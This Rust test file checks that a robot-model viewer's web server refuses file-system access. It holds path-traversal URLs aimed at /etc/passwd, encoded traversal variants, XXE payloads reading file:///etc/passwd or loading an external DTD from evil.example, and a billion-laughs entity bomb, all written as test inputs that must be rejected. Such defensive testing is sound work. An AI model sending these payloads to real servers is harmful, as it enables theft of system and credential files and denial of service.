//! No path from the page reaches the file system: addresses in requests, and files that dropped texts name.

use crate::client::Running;
use eigenbody_web::{Opening, Options};
use serde_json::{Value, json};
use std::path::Path;

#[test]
fn assets_come_from_a_list() {
    let server = Running::new();
    let secret = include_str!("main.rs").lines().next().unwrap();
    for path in [
        "/assets/../Cargo.toml",
        "/assets/../../tests/main.rs",
        "/assets/..%2f..%2f..%2ftests%2fmain.rs",
        "/assets/%2e%2e/%2e%2e/%2e%2e/tests/main.rs",
        "/assets/..%5c..%5ctests%5cmain.rs",
        "/assets/%252e%252e%252f%252e%252e%252ftests%252fmain.rs",
        "/assets/....//....//tests/main.rs",
        "/assets//etc/passwd",
        "/assets/%2fetc%2fpasswd",
        "/assets/C:%5cWindows%5cwin.ini",
        "/assets/explorer.js%00.css",
        "/assets/explorer.js/",
        "/assets/explorer.js/../../../Cargo.toml",
        "/assets/EXPLORER.JS",
        "/assets/.",
        "/assets/",
        "/assets",
        "/../../../etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "//etc/passwd",
        "/etc/passwd",
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/index.html",
        "/page/dist/index.html",
        "/assets/%ff%fe",
    ] {
        let reply = server.get(path, &[]);
        assert!((400..500).contains(&reply.status), "{path}: {}", reply.status);
        assert!(!reply.text().contains("root:") && !reply.text().contains(secret), "{path}");
    }
}

/// A robot, a mesh and an included file that are there, and places where nothing is.
struct Files {
    folder: tempfile::TempDir,
}

impl Files {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &[u8]| std::fs::write(folder.path().join(name), text).unwrap();
        write(
            "there.xml",
            br#"<mujoco><worldbody><body name="attached"><body name="secret"><joint/><geom size="1"/></body></body></worldbody></mujoco>"#,
        );
        write("there.sdf", br#"<sdf version="1.9"><model name="secret"><link name="a"/></model></sdf>"#);
        write("there.urdf", br#"<robot name="secret"><link name="secret"/></robot>"#);
        // A tetrahedron.
        write("there.obj", b"v 0 0 0\nv 1 0 0\nv 0 1 0\nv 0 0 1\nf 1 3 2\nf 1 2 4\nf 1 4 3\nf 2 3 4\n");
        Self { folder }
    }

    fn path(&self, name: &str) -> String {
        self.folder.path().join(name).display().to_string()
    }
}

/// What the server says of a text in which NAME stands for a file, with the name taken out again.
fn said(server: &Running, text: &str, name: &str) -> (u16, String) {
    let source = json!({ "source": { "text": text.replace("NAME", name), "name": "dropped.xml" } });
    let reply = server.post("/api/model", &source);
    let last = name.rsplit('/').next().unwrap();
    (
        reply.status,
        reply
            .text()
            .replace(name, "NAME")
            .replace(last, "NAME")
            .replace(&"━".repeat(name.chars().count()), ""),
    )
}

const MENTIONS: [(&str, &str); 10] = [
    ("include", r#"<mujoco><include file="NAME"/></mujoco>"#),
    ("include in a body", r#"<mujoco><worldbody><body><include file="NAME"/></body></worldbody></mujoco>"#),
    (
        "mesh",
        r#"<mujoco><asset><mesh name="m" file="NAME"/></asset><worldbody><body><joint/><geom type="mesh" mesh="m"/></body></worldbody></mujoco>"#,
    ),
    (
        "mesh folder",
        r#"<mujoco><compiler meshdir="/"/><asset><mesh name="m" file="NAME"/></asset><worldbody><body><joint/><geom type="mesh" mesh="m"/></body></worldbody></mujoco>"#,
    ),
    (
        "asset folder",
        r#"<mujoco><compiler assetdir="/"/><asset><mesh name="m" file="NAME"/></asset><worldbody><body><joint/><geom type="mesh" mesh="m"/></body></worldbody></mujoco>"#,
    ),
    (
        "stripped",
        r#"<mujoco><compiler strippath="true"/><asset><mesh name="m" file="NAME"/></asset><worldbody><body><joint/><geom type="mesh" mesh="m"/></body></worldbody></mujoco>"#,
    ),
    (
        "model",
        r#"<mujoco><asset><model name="m" file="NAME"/></asset><worldbody><attach model="m" body="attached" prefix="p"/></worldbody></mujoco>"#,
    ),
    ("sdf", r#"<sdf version="1.9"><model name="m"><include><uri>NAME</uri></include></model></sdf>"#),
    (
        "sdf file",
        r#"<sdf version="1.9"><world name="w"><include><uri>file://NAME</uri></include></world></sdf>"#,
    ),
    (
        "sdf model",
        r#"<sdf version="1.9"><model name="m"><include><uri>model://NAME</uri></include></model></sdf>"#,
    ),
];

/// Not even whether a file is there can be learned: what is said is the same.
#[test]
fn dropped_texts_reach_no_file() {
    let (server, files) = (Running::new(), Files::new());
    for (what, text) in MENTIONS {
        let absent = said(&server, text, &files.path("absent.xml"));
        assert_eq!(absent.0, 422, "{what}: {}", absent.1);
        let relative = "../../../../../../../etc/passwd";
        for name in [&files.path("there.xml"), &files.path("there.obj"), &files.path("there.sdf")] {
            let there = said(&server, text, name);
            assert_eq!(there.0, 422, "{what}: {}", there.1);
            assert!(
                there.1.contains("a text on its own has no files beside it")
                    || there.1.contains("no such file"),
                "{what}: {}",
                there.1
            );
            assert!(!there.1.contains("secret"), "{what}: {}", there.1);
        }
        // Of the same length and ending, one there and one not.
        let pair = [files.path("there.xml"), files.path("thera.xml")].map(|name| said(&server, text, &name));
        assert_eq!(pair[0], pair[1], "{what}");
        for device in [
            "/dev/zero",
            "/dev/stdin",
            "/proc/self/environ",
            relative,
            "\\\\evil.example\\share\\x.xml",
            "http://127.0.0.1/x.xml",
        ] {
            assert_eq!(said(&server, text, device).0, 422, "{what} {device}");
        }
    }
}

/// A URDF's meshes touch no inertia: such a robot is read, and its meshes are not.
#[test]
fn meshes_of_a_dropped_urdf_are_not_read() {
    let (server, files) = (Running::new(), Files::new());
    for name in [
        files.path("there.obj"),
        format!("file://{}", files.path("there.obj")),
        "package://robot/there.obj".into(),
    ] {
        let text = format!(
            r#"<robot name="r"><link name="a"/><link name="b"><inertial><mass value="1"/><inertia ixx="1" ixy="0" ixz="0" iyy="1" iyz="0" izz="1"/></inertial>
            <visual><geometry><mesh filename="{name}"/></geometry></visual></link>
            <joint name="j" type="continuous"><parent link="a"/><child link="b"/><axis xyz="0 0 1"/></joint></robot>"#
        );
        let described = server.model(&json!({ "text": text, "name": "arm.urdf" }));
        assert_eq!(described["bodies"][0]["shapes"], json!([]), "{name}");
        assert_eq!(server.get("/api/mesh/0", &[]).status, 404);
    }
}

#[test]
fn entities_are_refused() {
    let server = Running::new();
    let laughs: String = (1..12)
        .map(|k| {
            let below = format!("&l{};", k - 1).repeat(10);
            format!("<!ENTITY l{k} \"{below}\">")
        })
        .collect();
    let texts = [
        format!("<!DOCTYPE robot [<!ENTITY l0 \"ha\">{laughs}]><robot name=\"&l11;\"><link name=\"a\"/></robot>"),
        r#"<!DOCTYPE robot [<!ENTITY x SYSTEM "file:///etc/passwd">]><robot name="&x;"><link name="a"/></robot>"#.into(),
        r#"<!DOCTYPE mujoco [<!ENTITY x SYSTEM "file:///etc/passwd">]><mujoco model="&x;"/>"#.into(),
        r#"<!DOCTYPE sdf SYSTEM "http://evil.example/x.dtd" [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><sdf version="1.9"/>"#.into(),
    ];
    for text in texts {
        let reply = server.post("/api/model", &json!({ "source": { "text": text, "name": "x.xml" } }));
        assert_eq!(reply.status, 422);
        assert!(reply.message().contains("document type declarations"), "{}", reply.message());
    }
}

/// Sources, names, configurations and metrics are words of small languages, never paths.
#[test]
fn no_word_of_a_request_is_a_path() {
    let (server, files) = (Running::new(), Files::new());
    let there = files.path("there.urdf");
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR")).join("Cargo.toml").display().to_string();
    let sources: Vec<Value> =
        [there.as_str(), "./there.urdf", "/etc/passwd", "file:///etc/passwd", &manifest]
            .iter()
            .flat_map(|path| {
                [json!({ "family": path }), json!({ "builtin": path }), json!({ "text": "", "name": path })]
            })
            .chain([
                json!({ "opened": true }),
                json!({ "opened": there }),
                json!({ "path": there }),
                json!({ "file": there }),
                json!({ "text": "<robot name='r'><link name='a'/></robot>", "name": "../a.urdf" }),
                json!({ "text": "<robot name='r'><link name='a'/></robot>", "name": "..\\a.urdf" }),
                json!({ "text": "<robot name='r'><link name='a'/></robot>", "name": "a\u{0}.urdf" }),
                json!({ "family": "hydra(3)", "opened": true }),
                json!({}),
            ])
            .collect();
    for source in sources {
        let reply = server.post("/api/model", &json!({ "source": source }));
        assert!(matches!(reply.status, 400 | 422), "{source}: {}", reply.text());
        assert!(!reply.text().contains("secret"), "{source}");
    }
    let id = server.model(&json!({ "family": "hydra(3)" }))["id"].clone();
    for at in [there.as_str(), "key:/etc/passwd", "/etc/passwd"] {
        assert_eq!(server.post("/api/pose", &json!({ "id": id, "at": at })).status, 422, "{at}");
    }
}

/// The file of the command line is read, with what it names; the page names it by no path.
#[test]
fn the_file_that_was_named_is_opened() {
    let files = Files::new();
    std::fs::write(files.path("arm.xml"), r#"<mujoco><include file="there.xml"/></mujoco>"#).unwrap();
    let server = Running::with(Opening::new(&files.path("arm.xml"), Options::default()).unwrap());
    let start = server.get("/api/start", &[]).json();
    assert_eq!(start["source"], json!({ "opened": true }));
    let described = server.model(&start["source"]);
    assert_eq!((&described["bodies"][0]["link"], &described["name"]), (&json!("secret"), &json!("arm.xml")));
    // A fault that has come into it is shown with its lines.
    std::fs::write(files.path("arm.xml"), "<mujoco>\n  <bodies/>\n</mujoco>").unwrap();
    let reply = server.post("/api/model", &json!({ "source": { "opened": true } }));
    assert_eq!(reply.refusal(), (422, "model".into()));
    let error = &reply.json()["error"];
    assert_eq!((&error["line"], &error["column"]), (&json!(2), &json!(3)), "{error}");
    assert!(error["excerpt"].as_str().unwrap().contains("<bodies/>"));
}

/// A binary STL file of these triangles.
fn stl(triangles: &[[[f32; 3]; 3]]) -> Vec<u8> {
    let mut bytes = vec![0; 80];
    bytes.extend((triangles.len() as u32).to_le_bytes());
    for triangle in triangles {
        bytes.extend([0; 12]);
        bytes.extend(triangle.iter().flatten().flat_map(|x| x.to_le_bytes()));
        bytes.extend([0; 2]);
    }
    bytes
}

/// The robot of the command line is drawn with its meshes, from its own folder and the package around it; what lies elsewhere is not read,
/// by whatever name, nor through a link.
#[test]
fn meshes_come_from_the_folder_of_the_named_file() {
    let folder = tempfile::tempdir().unwrap();
    let package = folder.path().join("arm_description");
    for below in ["urdf", "meshes", "deep/urdf"] {
        std::fs::create_dir_all(package.join(below)).unwrap();
    }
    let tetrahedron = stl(&[
        [[0., 0., 0.], [0., 1., 0.], [1., 0., 0.]],
        [[0., 0., 0.], [1., 0., 0.], [0., 0., 1.]],
        [[0., 0., 0.], [0., 0., 1.], [0., 1., 0.]],
        [[1., 0., 0.], [0., 1., 0.], [0., 0., 1.]],
    ]);
    std::fs::write(package.join("meshes/near.stl"), &tetrahedron).unwrap();
    std::fs::write(folder.path().join("secret.stl"), &tetrahedron).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(folder.path().join("secret.stl"), package.join("meshes/link.stl")).unwrap();
    let secret = folder.path().join("secret.stl").display().to_string();
    let names = [
        ("../meshes/near.stl", true),
        ("package://arm_description/meshes/near.stl", true),
        ("package://meshes/near.stl", true),
        ("../../secret.stl", false),
        ("package://arm_description/../secret.stl", false),
        ("../meshes/link.stl", false),
        (secret.as_str(), false),
        ("../urdf/arm.urdf", false),
        ("/dev/zero", false),
    ];
    for (name, is_read) in names {
        let text = format!(
            r#"<robot name="r"><link name="a"><visual><geometry><box size="1 2 3"/></geometry></visual></link><link name="b">
            <visual><origin xyz="1 2 3" rpy="0 0 1.5707963267948966"/><geometry><mesh filename="{name}" scale="2 2 2"/></geometry></visual>
            <visual><geometry><cylinder radius="0.5" length="3"/></geometry></visual><visual><geometry><cone/></geometry></visual></link>
            <joint name="j" type="continuous"><parent link="a"/><child link="b"/><axis xyz="0 0 1"/></joint></robot>"#
        );
        let file = package.join("urdf/arm.urdf");
        std::fs::write(&file, text).unwrap();
        let server = Running::with(Opening::new(&file.display().to_string(), Options::default()).unwrap());
        let described = server.model(&json!({ "opened": true }));
        let half = std::f32::consts::FRAC_1_SQRT_2;
        let cylinder =
            json!({ "kind": "cylinder", "size": [0.5, 1.5], "pose": [0.0, 0.0, 0.0, 1.0, 0.0, 0.0, 0.0] });
        let mesh = json!({ "kind": "mesh", "size": [2.0, 2.0, 2.0], "mesh": 0, "pose": [1.0, 2.0, 3.0, half, 0.0, 0.0, half] });
        let shapes = described["bodies"][0]["shapes"].as_array().unwrap();
        assert_eq!(described["still"][0]["size"], json!([0.5, 1.0, 1.5]), "{name}");
        if is_read {
            assert_eq!(shapes.len(), 2, "{name}");
            assert_eq!((&shapes[0]["kind"], &shapes[0]["mesh"]), (&mesh["kind"], &mesh["mesh"]));
            let numbers = |pose: &Value| -> Vec<f64> {
                pose.as_array().unwrap().iter().map(|x| x.as_f64().unwrap()).collect()
            };
            for (seen, meant) in numbers(&shapes[0]["pose"]).into_iter().zip(numbers(&mesh["pose"])) {
                // Single precision, of numbers up to 3.
                assert!((seen - meant).abs() <= 4.0 * f64::from(f32::EPSILON), "{name}: {seen} {meant}");
            }
            let triangles = server.get("/api/mesh/0", &[]).json();
            assert_eq!(triangles["positions"].as_array().unwrap().len(), 12, "corners are merged");
            assert_eq!(triangles["indices"].as_array().unwrap().len(), 12);
        } else {
            assert_eq!(server.get("/api/mesh/0", &[]).status, 404, "{name}");
        }
        assert_eq!(shapes.last(), Some(&cylinder), "{name}");
    }
}
